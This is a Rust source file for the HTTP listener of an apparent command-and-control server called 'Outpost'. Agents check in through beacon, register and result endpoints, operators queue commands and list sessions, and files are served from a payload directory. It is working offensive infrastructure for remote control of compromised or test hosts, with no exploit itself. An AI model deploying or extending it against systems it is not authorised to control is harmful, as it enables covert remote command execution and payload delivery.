//! Outpost HTTP channel
//!
//! Axum server that agents poll. HTTP has no persistent connection, so a
//! command for an HTTP agent waits in its session's single-slot mailbox until
//! the next beacon picks it up.
//!
//! Architecture: each endpoint has a thin axum handler that delegates to a pure
//! inner function, so the protocol logic is testable without a socket.
//!
//! Endpoints:
//! - `GET  /beacon`: agent check-in, returns any queued command
//! - `POST /register`: agent system info, merged into session metadata
//! - `POST /result`: command output from an agent
//! - `POST /cmd`: queue a command for an HTTP session
//! - `GET  /sessions`: operator session listing
//! - `GET  /payload/:name`: serve a file from the payload directory
//!
//! Unknown paths and methods answer 404. Unparsable JSON bodies answer 500.

use std::net::{IpAddr, SocketAddr};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use anyhow::Result;
use axum::body::{Body, Bytes};
use axum::extract::{ConnectInfo, Path as UrlPath, State};
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use outpost_core::config::HttpConfig;
use outpost_core::{OutpostError, SessionManager};
use serde::{Deserialize, Serialize};
use serde_json::{json, Map, Value};
use thiserror::Error;
use tokio::net::TcpListener;
use tokio::sync::broadcast;
use tokio_util::io::ReaderStream;

use crate::dispatcher::CommandDispatcher;

/// Shared state for all HTTP handlers
pub struct HttpState {
    pub sessions: Arc<SessionManager>,
    pub dispatcher: Arc<dyn CommandDispatcher>,
    pub payload_dir: PathBuf,
}

/// Build the Axum router with all endpoints
pub fn build_router(state: Arc<HttpState>) -> Router {
    Router::new()
        .route("/beacon", get(beacon_handler).fallback(not_found_handler))
        .route("/register", post(register_handler).fallback(not_found_handler))
        .route("/result", post(result_handler).fallback(not_found_handler))
        .route("/cmd", post(cmd_handler).fallback(not_found_handler))
        .route("/sessions", get(sessions_handler).fallback(not_found_handler))
        .route("/payload/:name", get(payload_handler).fallback(not_found_handler))
        .fallback(not_found_handler)
        .with_state(state)
}

pub struct HttpChannel {
    config: HttpConfig,
    state: Arc<HttpState>,
}

impl HttpChannel {
    pub fn new(
        config: HttpConfig,
        sessions: Arc<SessionManager>,
        dispatcher: Arc<dyn CommandDispatcher>,
    ) -> Self {
        let state = Arc::new(HttpState {
            sessions,
            dispatcher,
            payload_dir: PathBuf::from(&config.payload_dir),
        });
        Self { config, state }
    }

    pub async fn bind(&self) -> std::io::Result<TcpListener> {
        TcpListener::bind(self.config.addr()).await
    }

    /// Serve until the broadcast shutdown signal fires.
    pub async fn serve(self, listener: TcpListener, mut shutdown: broadcast::Receiver<()>) -> Result<()> {
        tracing::info!(
            "HTTP listener '{}' started on http://{}",
            self.config.name,
            listener.local_addr()?
        );

        let name = self.config.name.clone();
        let app = build_router(self.state).into_make_service_with_connect_info::<SocketAddr>();

        axum::serve(listener, app)
            .with_graceful_shutdown(async move {
                let _ = shutdown.recv().await;
                tracing::info!("Shutting down HTTP listener '{}'...", name);
            })
            .await?;

        Ok(())
    }
}

// ============================================================================
// Request / Response DTOs
// ============================================================================

#[derive(Debug, Deserialize, Default)]
pub struct ResultRequest {
    pub session_id: Option<String>,
    pub result: Option<Value>,
}

#[derive(Debug, Deserialize, Default)]
pub struct CommandRequest {
    pub session_id: Option<String>,
    pub command: Option<String>,
}

/// Standard HTTP error response
#[derive(Debug, Serialize)]
pub struct ErrorResponse {
    pub error: String,
    pub status: String,
}

impl ErrorResponse {
    pub fn new(msg: impl Into<String>) -> Self {
        Self {
            error: msg.into(),
            status: "error".to_string(),
        }
    }
}

#[derive(Debug, Error)]
pub enum ApiError {
    #[error("malformed request body: {0}")]
    MalformedBody(#[from] serde_json::Error),

    #[error("missing field: {0}")]
    MissingField(&'static str),

    #[error("{0}")]
    NotFound(&'static str),

    #[error(transparent)]
    Session(#[from] OutpostError),

    #[error("IO error: {0}")]
    Io(#[from] std::io::Error),
}

impl ApiError {
    pub fn status(&self) -> StatusCode {
        match self {
            ApiError::MissingField(_) => StatusCode::BAD_REQUEST,
            ApiError::NotFound(_) => StatusCode::NOT_FOUND,
            ApiError::Session(OutpostError::SessionNotFound(_)) => StatusCode::NOT_FOUND,
            ApiError::Session(OutpostError::NotHttpSession(_)) => StatusCode::CONFLICT,
            ApiError::MalformedBody(_) | ApiError::Session(_) | ApiError::Io(_) => {
                StatusCode::INTERNAL_SERVER_ERROR
            }
        }
    }
}

impl IntoResponse for ApiError {
    fn into_response(self) -> Response {
        let status = self.status();
        if status.is_server_error() {
            tracing::warn!("HTTP request failed: {}", self);
        }
        (status, Json(ErrorResponse::new(self.to_string()))).into_response()
    }
}

// ============================================================================
// Inner (directly testable) protocol functions
// ============================================================================

/// Inner beacon: find-or-create by source IP, touch, hand out any queued command.
pub fn beacon_inner(sessions: &SessionManager, ip: IpAddr) -> Value {
    let outcome = sessions.beacon(ip);
    if outcome.created {
        tracing::info!("New HTTP session: {} - Session {}", ip, outcome.session.id);
    }
    if let Some(command) = &outcome.command {
        tracing::info!("Delivered command to session {}: {}", outcome.session.id, command);
    }

    json!({
        "status": "ok",
        "session_id": outcome.session.id,
        "command": outcome.command,
    })
}

/// Inner register: merge the posted system info into the caller's session.
pub fn register_inner(sessions: &SessionManager, ip: IpAddr, body: &[u8]) -> Result<Value, ApiError> {
    let info: Map<String, Value> = serde_json::from_slice(body)?;

    let (session, created) = sessions.register(ip, info);
    if created {
        tracing::info!("New HTTP session: {} - Session {}", ip, session.id);
    }
    tracing::info!("HTTP session {} registered: {}", session.id, session.describe());

    Ok(json!({
        "status": "registered",
        "session_id": session.id,
    }))
}

/// Inner result: surface an agent's command output through the dispatcher.
pub async fn result_inner(state: &HttpState, body: &[u8]) -> Result<(), ApiError> {
    let req: ResultRequest = serde_json::from_slice(body)?;

    let (Some(session_id), Some(result)) = (req.session_id, req.result) else {
        tracing::debug!("Ignoring result without session_id or result");
        return Ok(());
    };

    match state.sessions.get_session(&session_id) {
        Some(session) => {
            let text = match result {
                Value::String(s) => s,
                other => other.to_string(),
            };
            state.dispatcher.record_result(&session, &text).await;
        }
        None => tracing::warn!("Result for unknown session {} ignored", session_id),
    }

    Ok(())
}

/// Inner cmd: queue a command for the next beacon, replacing any unconsumed one.
pub fn cmd_inner(sessions: &SessionManager, body: &[u8]) -> Result<Value, ApiError> {
    let req: CommandRequest = serde_json::from_slice(body)?;

    let session_id = req
        .session_id
        .filter(|s| !s.is_empty())
        .ok_or(ApiError::MissingField("session_id"))?;
    let command = req
        .command
        .filter(|c| !c.is_empty())
        .ok_or(ApiError::MissingField("command"))?;

    if let Some(previous) = sessions.set_pending_command(&session_id, command.as_str())? {
        tracing::debug!("Session {} dropped unconsumed command: {}", session_id, previous);
    }
    tracing::info!("Command queued for session {}: {}", session_id, command);

    Ok(json!({"status": "command_queued"}))
}

/// Inner sessions: snapshot listing for operators.
pub fn sessions_inner(sessions: &SessionManager) -> Value {
    let listed = sessions.list_sessions();
    json!({
        "count": listed.len(),
        "sessions": listed,
    })
}

/// Resolve a payload name inside `dir`. Names that could escape the
/// directory are treated as absent.
pub fn payload_path(dir: &Path, name: &str) -> Option<PathBuf> {
    let unsafe_name = name.is_empty()
        || name.contains('/')
        || name.contains('\\')
        || name.contains("..")
        || name.contains('\0');
    if unsafe_name {
        return None;
    }
    Some(dir.join(name))
}

// ============================================================================
// Axum handler wrappers (thin, delegate to inner functions)
// ============================================================================

pub async fn beacon_handler(
    State(state): State<Arc<HttpState>>,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
) -> impl IntoResponse {
    (StatusCode::OK, Json(beacon_inner(&state.sessions, addr.ip())))
}

pub async fn register_handler(
    State(state): State<Arc<HttpState>>,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
    body: Bytes,
) -> Result<Json<Value>, ApiError> {
    register_inner(&state.sessions, addr.ip(), &body).map(Json)
}

pub async fn result_handler(
    State(state): State<Arc<HttpState>>,
    body: Bytes,
) -> Result<StatusCode, ApiError> {
    result_inner(&state, &body).await?;
    Ok(StatusCode::OK)
}

pub async fn cmd_handler(
    State(state): State<Arc<HttpState>>,
    body: Bytes,
) -> Result<Json<Value>, ApiError> {
    cmd_inner(&state.sessions, &body).map(Json)
}

pub async fn sessions_handler(State(state): State<Arc<HttpState>>) -> impl IntoResponse {
    (StatusCode::OK, Json(sessions_inner(&state.sessions)))
}

pub async fn payload_handler(
    State(state): State<Arc<HttpState>>,
    UrlPath(name): UrlPath<String>,
) -> Result<Response, ApiError> {
    let path = payload_path(&state.payload_dir, &name).ok_or(ApiError::NotFound("File not found"))?;

    let metadata = match tokio::fs::metadata(&path).await {
        Ok(m) if m.is_file() => m,
        Ok(_) => return Err(ApiError::NotFound("File not found")),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(ApiError::NotFound("File not found"))
        }
        Err(e) => return Err(e.into()),
    };
    let file = tokio::fs::File::open(&path).await?;

    tracing::info!("Served payload: {} ({} bytes)", name, metadata.len());

    let headers = [
        (header::CONTENT_TYPE, "application/octet-stream".to_string()),
        (
            header::CONTENT_DISPOSITION,
            format!("attachment; filename=\"{}\"", name),
        ),
        (header::CONTENT_LENGTH, metadata.len().to_string()),
    ];
    Ok((headers, Body::from_stream(ReaderStream::new(file))).into_response())
}

pub async fn not_found_handler() -> ApiError {
    ApiError::NotFound("Endpoint not found")
}

// ============================================================================
// Unit Tests: call inner functions directly
// ============================================================================
